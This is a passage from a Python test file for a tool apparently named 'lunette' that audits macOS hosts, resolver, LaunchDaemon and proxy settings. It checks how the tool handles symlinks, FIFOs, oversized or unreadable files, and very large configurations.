    (root / "private/etc/hosts").symlink_to("/elsewhere/../elsewhere/h")
    assert audit(root)["hosts"][0]["names"] == ["inside.apple.com"]


def test_special_files_are_not_opened(tmp_path):
    healthy(tmp_path)
    (tmp_path / "private/etc/hosts").unlink()
    os.mkfifo(tmp_path / "private/etc/hosts")
    os.mkfifo(tmp_path / "private/etc/resolver")
    (tmp_path / "Library/LaunchDaemons/x.plist").mkdir(parents=True)
    document = audit(tmp_path, code=1)
    status = {f["path"]: f["status"] for f in document["files"]}
    assert status["/etc/hosts"] == "no regular file" and status["/Library/LaunchDaemons/x.plist"] == "no regular file"


def test_files_that_are_too_large_or_not_readable(tmp_path):
    healthy(tmp_path)
    with open(tmp_path / "private/etc/hosts", "wb") as file:
        file.truncate(17 << 20)
    assert "larger" in next(f["status"] for f in audit(tmp_path, code=1)["files"] if f["path"] == "/etc/hosts")
    assert b"Nothing found that does not belong, in what could be read." in lunette("audit", tmp_path).stdout
    if os.geteuid() != 0:
        os.chmod(tmp_path / PREFERENCES, 0)
        assert "may not be read" in next(f["status"] for f in audit(tmp_path, code=1)["files"] if f["path"] == "/" + PREFERENCES)


def test_ten_thousand_services(tmp_path):
    services = {"S%05d" % i: service("Service %d" % i, "en%d" % i, DNS={"ServerAddresses": ["203.0.113.53"]},
                                     Proxies={"HTTPEnable": 1, "HTTPProxy": "10.0.0.%d" % (i % 250)}) for i in range(10000)}
    with_services(tmp_path, services)
    put(tmp_path, "private/etc/hosts", "".join("0.0.0.0 ad%d.example.net\n" % i for i in range(200000)))
    began = time.monotonic()
    document = audit(tmp_path)
    assert len(document["services"]) == 10000 and len(document["proxies"]) == 10000
    assert time.monotonic() - began < 60
    assert lunette("audit", tmp_path).returncode == 0
